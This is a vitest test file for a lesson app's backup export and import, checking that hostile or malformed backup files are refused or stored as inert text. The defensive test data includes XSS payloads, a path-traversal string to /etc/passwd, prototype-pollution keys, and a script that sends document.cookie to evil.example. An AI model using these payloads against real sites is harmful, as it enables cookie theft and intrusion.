import { describe, expect, it } from 'vitest';
import type { ChainlabDb, DraftRow, ProgressRow } from '#lib/storage/db.ts';
import {
	BACKUP_FORMAT,
	BackupError,
	MAX_BACKUP_BYTES,
	backupFileName,
	createBackup,
	exportBackup,
	importBackup,
	isCopyPath,
	parseBackup,
	planImport,
	readBackupFile,
	serializeBackup,
	type Backup
} from '#lib/storage/backup.ts';
import { freshDb, quotaDb } from './helpers.ts';

const A = '02-lending/03-liquidation-call';
const B = '01-foundations/01-first-transaction';
const LESSONS = [A, B];
const NOW = Date.UTC(2025, 2, 12, 14, 5);
const opts = { lessonIds: LESSONS, now: NOW };

const draft = (lessonId: string, path: string, text: string, updatedAt: number): DraftRow => ({
	lessonId,
	path,
	text,
	updatedAt
});
const progressRow = (lessonId: string, over: Partial<ProgressRow> = {}): ProgressRow => ({
	lessonId,
	status: 'in-progress',
	checksPassed: [],
	hintsRevealed: {},
	solutionShown: false,
	updatedAt: 1000,
	...over
});

/** A valid backup as plain JSON data, for tests to damage. */
function goodData(): Record<string, unknown> {
	return JSON.parse(
		serializeBackup(
			createBackup(
				{
					drafts: [draft(A, 'contracts/LendingPool.ts', 'export default class P {}', 2000)],
					progress: [progressRow(A, { hintsRevealed: { 'close-factor': 1 } })]
				},
				NOW - 1000
			)
		)
	);
}

async function dump(db: ChainlabDb) {
	return { drafts: await db.drafts.toArray(), progress: await db.progress.toArray() };
}

/** Parse then import into `db`, expecting a BackupError and no change at all in the database. */
async function refused(db: ChainlabDb, text: string): Promise<BackupError> {
	const before = await dump(db);
	let caught: unknown;
	try {
		await importBackup(db, parseBackup(text, opts), NOW);
	} catch (error) {
		caught = error;
	}
	expect(caught).toBeInstanceOf(BackupError);
	const e = caught as BackupError;
	expect(e.message).toMatch(/Nothing was imported\.$/);
	expect(e.message.length).toBeLessThan(400);
	expect(e.message).not.toMatch(/[<>]/);
	expect(await dump(db)).toEqual(before);
	return e;
}

async function seeded(): Promise<ChainlabDb> {
	const db = freshDb();
	await db.drafts.put(draft(A, 'contracts/LendingPool.ts', 'mine', 5000));
	await db.progress.put(progressRow(A, { status: 'solved', checksPassed: ['a'] }));
	return db;
}

describe('export', () => {
	it('writes every draft and all progress as versioned JSON that reads back', async () => {
		const db = await seeded();
		await db.drafts.put(draft(B, 'contracts/Token.ts', '<script>alert(1)</script>', 6000));
		const text = await exportBackup(db, NOW);
		const data = JSON.parse(text);
		expect(data.format).toBe(BACKUP_FORMAT);
		expect(data.version).toBe(4);
		expect(data.exportedAt).toBe('2025-03-12T14:05:00.000Z');
		expect(data.drafts).toHaveLength(2);
		expect(data.progress).toHaveLength(1);
		const back = parseBackup(text, opts);
		expect(back.drafts).toEqual(await db.drafts.orderBy('[lessonId+path]').toArray());
		expect(backupFileName(NOW)).toBe('chainlab-backup-2025-03-12.json');
	});

	it('restores into an empty browser exactly', async () => {
		const from = await seeded();
		const to = freshDb();
		const summary = await importBackup(to, parseBackup(await exportBackup(from, NOW), opts), NOW);
		expect(summary).toMatchObject({ added: 1, replaced: 0, keptAsCopies: 0, progressUpdated: 1 });
		expect(await dump(to)).toEqual(await dump(from));
	});
});

describe('hostile or malformed files get a clear message and change nothing', () => {
	it('1. not JSON at all', async () => {
		const db = await seeded();
		expect((await refused(db, 'PK\u0003\u0004 this is a zip')).code).toBe('not-json');
		expect((await refused(db, '')).code).toBe('not-json');
		expect((await refused(db, '{"format": "chainlab-backup",')).code).toBe('not-json');
	});

	it('2. JSON but not a backup: wrong or missing format tag', async () => {
		const db = await seeded();
		for (const text of [
			'[]',
			'42',
			'null',
			'"chainlab-backup"',
			JSON.stringify({ ...goodData(), format: 'other-app' })
		]) {
			const e = await refused(db, text);
			expect(e.code).toBe('format');
			expect(e.message).toMatch(/not a Chainlab backup/);
		}
	});

	it('3. wrong version', async () => {
		const db = await seeded();
		expect((await refused(db, JSON.stringify({ ...goodData(), version: 5 }))).message).toMatch(
			/newer Chainlab/
		);
		expect((await refused(db, JSON.stringify({ ...goodData(), version: '1' }))).code).toBe(
			'version'
		);
		expect((await refused(db, JSON.stringify({ ...goodData(), version: 0 }))).code).toBe('version');
	});

	it('4. wrong shapes', async () => {
		const db = await seeded();
		const good = goodData();
		const d0 = (good.drafts as Record<string, unknown>[])[0];
		const p0 = (good.progress as Record<string, unknown>[])[0];
		const variants: Record<string, unknown>[] = [
			{ ...good, drafts: 'all of them' },
			{ ...good, drafts: [{ ...d0, text: 42 }] },
			{ ...good, drafts: [{ lessonId: A, path: 'contracts/X.ts', updatedAt: 1 }] },
			{ ...good, drafts: [{ ...d0, extra: 'field' }] },
			{ ...good, drafts: [{ ...d0, path: '../../../etc/passwd' }] },
			{ ...good, drafts: [{ ...d0, updatedAt: 1.5 }] },
			{ ...good, progress: [{ ...p0, status: 'mastered' }] },
			{ ...good, progress: [{ ...p0, hintsRevealed: [1, 2] }] },
			{ ...good, progress: [{ ...p0, hintsRevealed: { 'close-factor': -3 } }] },
			{ ...good, progress: [{ ...p0, checksPassed: ['a', 'a'] }] },
			{ ...good, exportedAt: 'yesterday' },
			{ ...good, surprise: true }
		];
		for (const value of variants) {
			const e = await refused(db, JSON.stringify(value));
			expect(e.code).toBe('invalid');
			expect(e.message).toMatch(/This backup is damaged/);
		}
		// 1e400 parses as Infinity: not a whole number
		const inf = JSON.stringify(good).replace('"updatedAt":2000', '"updatedAt":1e400');
		expect(inf).toContain('1e400');
		expect((await refused(db, inf)).code).toBe('invalid');
	});

	it('5. huge files are refused before parsing', async () => {
		const db = await seeded();
		const huge = JSON.stringify({ ...goodData(), pad: 'x'.repeat(MAX_BACKUP_BYTES) });
		const e = await refused(db, huge);
		expect(e.code).toBe('too-large');
		expect(e.message).toMatch(/8 MB/);
		const blob = new Blob([new Uint8Array(MAX_BACKUP_BYTES + 1)]);
		await expect(readBackupFile(blob, opts)).rejects.toMatchObject({ code: 'too-large' });
	});

	it('6. markup and script in ids and paths are refused, and never echoed as markup', async () => {
		const db = await seeded();
		const good = goodData();
		const d0 = (good.drafts as Record<string, unknown>[])[0];
		for (const bad of [
			{ ...d0, lessonId: '<img src=x onerror=alert(1)>' },
			{ ...d0, path: '<script>alert(1)</script>.ts' }
		]) {
			const e = await refused(db, JSON.stringify({ ...good, drafts: [bad] }));
			expect(e.code).toBe('invalid');
		}
	});

	it('7. markup inside file text is kept as inert text', async () => {
		const db = freshDb();
		const script =
			'</script><script>fetch("//evil.example/?c="+document.cookie)</script><b onclick=x>';
		const good = goodData();
		const d0 = (good.drafts as Record<string, unknown>[])[0];
		const backup = parseBackup(
			JSON.stringify({ ...good, drafts: [{ ...d0, text: script }] }),
			opts
		);
		await importBackup(db, backup, NOW);
		expect((await db.drafts.toArray())[0].text).toBe(script);
	});

	it('8. unknown lesson ids', async () => {
		const db = await seeded();
		const good = goodData();
		const d0 = (good.drafts as Record<string, unknown>[])[0];
		const drafts = ['09-x/01-a', '09-x/02-b', '09-x/03-c', '09-x/04-d'].map((lessonId) => ({
			...d0,
			lessonId
		}));
		const e = await refused(db, JSON.stringify({ ...good, drafts }));
		expect(e.code).toBe('unknown-lesson');
		expect(e.message).toContain('"09-x/01-a"');
		expect(e.message).toContain('and 1 more');
		const p = await refused(
			db,
			JSON.stringify({
				...good,
				progress: [{ ...(good.progress as object[])[0], lessonId: '99-gone/01-old' }]
			})
		);
		expect(p.code).toBe('unknown-lesson');
	});

	it('9. negative and future timestamps', async () => {
		const db = await seeded();
		const good = goodData();
		const d0 = (good.drafts as Record<string, unknown>[])[0];
		const neg = await refused(db, JSON.stringify({ ...good, drafts: [{ ...d0, updatedAt: -1 }] }));
		expect(neg.message).toMatch(/before 1970/);
		const future = await refused(
			db,
			JSON.stringify({ ...good, drafts: [{ ...d0, updatedAt: NOW + 10 * 86_400_000 }] })
		);
		expect(future.message).toMatch(/future/);
	});

	it('9b. a future time is refused in every field that holds one (solvedAt, exportedAt)', async () => {
		const db = await seeded();
		const good = goodData();
		const p0 = (good.progress as Record<string, unknown>[])[0];
		const solved = await refused(
			db,
			JSON.stringify({
				...good,
				progress: [{ ...p0, status: 'solved', solvedAt: NOW + 400 * 86_400_000 }]
			})
		);
		expect(solved.message).toMatch(/future for lesson/);
		const exported = await refused(
			db,
			JSON.stringify({ ...good, exportedAt: new Date(NOW + 400 * 86_400_000).toISOString() })
		);
		expect(exported.message).toMatch(/exported in the future/);
		// within the clock-skew allowance (one day) is accepted
		const skew = NOW + 3_600_000;
		const ok = JSON.stringify({
			...good,
			exportedAt: new Date(skew).toISOString(),
			progress: [{ ...p0, status: 'solved', solvedAt: skew }]
		});
		expect(() => parseBackup(ok, { lessonIds: LESSONS, now: NOW })).not.toThrow();
	});

	it('10. duplicate entries', async () => {
		const db = await seeded();
		const good = goodData();
		const d0 = (good.drafts as Record<string, unknown>[])[0];
		const p0 = (good.progress as Record<string, unknown>[])[0];
		const dd = await refused(
			db,
			JSON.stringify({ ...good, drafts: [d0, { ...d0, text: 'other' }] })
		);
		expect(dd.code).toBe('duplicate');
		expect(dd.message).toContain('contracts/LendingPool.ts');
		expect((await refused(db, JSON.stringify({ ...good, progress: [p0, p0] }))).code).toBe(
			'duplicate'
		);
	});

	it('11. prototype-pollution keys', async () => {
		const db = await seeded();
		const good = JSON.stringify(goodData());
		const attacks = [
			good.replace('{', '{"__proto__":{"polluted":true},'),
			good.replace('"hintsRevealed":{', '"hintsRevealed":{"__proto__":{"polluted":true},'),
			good.replace(
				'"hintsRevealed":{',
				'"hintsRevealed":{"constructor":{"prototype":{"polluted":true}},'
			)
		];
		for (const text of attacks) {
			expect(text).not.toBe(good);
			const e = await refused(db, text);
			expect(e.code).toBe('invalid');
			expect(e.message).toMatch(/__proto__|constructor|prototype/);
		}
		expect(({} as Record<string, unknown>).polluted).toBeUndefined();
	});

	it('12. a storage failure while importing rolls everything back', async () => {
		const db = quotaDb();
		const backup = parseBackup(JSON.stringify(goodData()), opts);
		await expect(importBackup(db, backup, NOW)).rejects.toMatchObject({ code: 'storage' });
		await expect(importBackup(db, backup, NOW)).rejects.toThrow(
			/QuotaExceededError|Nothing was imported/
		);
	});
});

describe('planImport merges without overwriting anything silently', () => {
	const ours = draft(A, 'contracts/LendingPool.ts', 'mine', 5000);
	const base = (
		drafts: DraftRow[],
		progress: ProgressRow[] = []
	): Pick<Backup, 'drafts' | 'progress'> => ({ drafts, progress });

	it('a newer file wins and ours is kept as a copy', () => {
		const theirs = draft(A, ours.path, 'theirs', 9000);
		const plan = planImport(base([ours]), base([theirs]), NOW);
		expect(plan.drafts).toEqual([
			theirs,
			{ ...ours, path: 'contracts/LendingPool.ts (copy before import 2025-03-12 14:05)' }
		]);
		expect(plan.summary).toMatchObject({ replaced: 1, keptAsCopies: 0, added: 0 });
		expect(isCopyPath(plan.drafts[1].path)).toBe(true);
	});

	it('an older (or same-time) file is kept as an imported copy and ours stays', () => {
		for (const at of [1000, 5000]) {
			const theirs = draft(A, ours.path, 'theirs', at);
			const plan = planImport(base([ours]), base([theirs]), NOW);
			expect(plan.drafts).toEqual([
				{ ...theirs, path: 'contracts/LendingPool.ts (imported copy 2025-03-12 14:05)' }
			]);
			expect(plan.summary.keptAsCopies).toBe(1);
		}
	});

	it('identical files and new files', () => {
		const plan = planImport(
			base([ours]),
			base([{ ...ours, updatedAt: 1 }, draft(B, 'contracts/Token.ts', 't', 3)]),
			NOW
		);
		expect(plan.drafts).toEqual([draft(B, 'contracts/Token.ts', 't', 3)]);
		expect(plan.summary).toMatchObject({ unchanged: 1, added: 1 });
	});

	it('copy names never collide', () => {
		const taken = {
			...ours,
			path: 'contracts/LendingPool.ts (imported copy 2025-03-12 14:05)',
			text: 'older copy'
		};
		const plan = planImport(base([ours, taken]), base([draft(A, ours.path, 'theirs', 10)]), NOW);
		expect(plan.drafts[0].path).toBe(
			'contracts/LendingPool.ts (imported copy 2025-03-12 14:05 #2)'
		);
	});

	it('importing the same backup twice adds nothing the second time', async () => {
		const db = freshDb();
		await db.drafts.bulkPut([ours, draft(A, 'contracts/Oracle.ts', 'my oracle', 100)]);
		const backup = createBackup(
			{
				drafts: [
					draft(A, ours.path, 'older', 1),
					draft(A, 'contracts/Oracle.ts', 'newer oracle', 200)
				],
				progress: []
			},
			NOW
		);
		const first = await importBackup(db, backup, NOW);
		expect(first).toMatchObject({ replaced: 1, keptAsCopies: 1 });
		const after = await dump(db);
		expect(after.drafts).toHaveLength(4);
		const second = await importBackup(db, backup, NOW + 60_000);
		expect(second).toMatchObject({ added: 0, replaced: 0, keptAsCopies: 0, unchanged: 2 });
		expect(await dump(db)).toEqual(after);
		// the exported result, copies included, is itself a valid backup
		expect(parseBackup(await exportBackup(db, NOW), opts).drafts).toHaveLength(4);
	});

	it('progress only moves forward', () => {
		const mine = progressRow(A, {
			status: 'solved',
			checksPassed: ['a', 'b'],
			hintsRevealed: { a: 2 },
			updatedAt: 100
		});
		const theirs = progressRow(A, {
			status: 'in-progress',
			checksPassed: ['a'],
			hintsRevealed: { a: 1, b: 3 },
			solutionShown: true,
			updatedAt: 200
		});
		const plan = planImport(base([], [mine]), base([], [theirs]), NOW);
		expect(plan.progress).toEqual([
			{
				lessonId: A,
				status: 'solved',
				checksPassed: ['a'],
				hintsRevealed: { a: 2, b: 3 },
				solutionShown: true,
				updatedAt: 200
			}
		]);
		expect(planImport(base([], [mine]), base([], [mine]), NOW).progress).toEqual([]);
	});
});
